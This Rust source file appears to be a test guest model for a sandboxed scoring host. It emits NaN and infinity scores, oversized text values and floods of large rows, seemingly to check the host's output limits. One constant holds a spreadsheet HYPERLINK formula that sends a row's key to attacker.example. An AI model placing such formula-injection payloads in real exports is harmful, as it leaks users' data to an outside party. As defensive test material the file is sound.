//! Hostile values in honest-looking output: a float column `p` and a text column `label`, one
//! row per input row, chosen by the row's `x`:
//! - `x = 1`: `p` is NaN (and `x = 4`: infinity);
//! - `x = 2`: `label` is a spreadsheet formula that would send the row's key elsewhere;
//! - `x = 3`: `label` is 70,000 bytes, over the default limits.output-text-bytes (64 KiB);
//! - `x >= 10`: `label` is 60,000 bytes, under that limit: many such rows are a flood that
//!   only limits.output-bytes stops;
//! - otherwise `p = 0.5` and `label = "ok"`.

use cordon_guest::{Batch, BatchBuilder, Model, ModelError, ModelInfo};

/// What the guest writes where `x = 2`.
const FORMULA: &str = "=HYPERLINK(\"https://attacker.example/?k=\"&A2,\"details\")";

struct HostileValues;

impl Model for HostileValues {
    fn describe() -> ModelInfo {
        ModelInfo::new("hostile-values", "0.0.0", "NaN, formulas and floods")
    }

    fn score(input: &Batch) -> Result<Batch, ModelError> {
        let x = input.f64s("x")?;
        let mut p = Vec::with_capacity(input.num_rows());
        let mut label = Vec::with_capacity(input.num_rows());
        for value in x.iter() {
            let value = value.unwrap_or(0.0);
            p.push(if value == 1.0 {
                f64::NAN
            } else if value == 4.0 {
                f64::INFINITY
            } else {
                0.5
            });
            label.push(if value == 2.0 {
                FORMULA.to_string()
            } else if value == 3.0 {
                "A".repeat(70_000)
            } else if value >= 10.0 {
                "B".repeat(60_000)
            } else {
                "ok".to_string()
            });
        }
        BatchBuilder::new().f64("p", p).text("label", label).build()
    }
}

cordon_guest::export_model!(HostileValues);
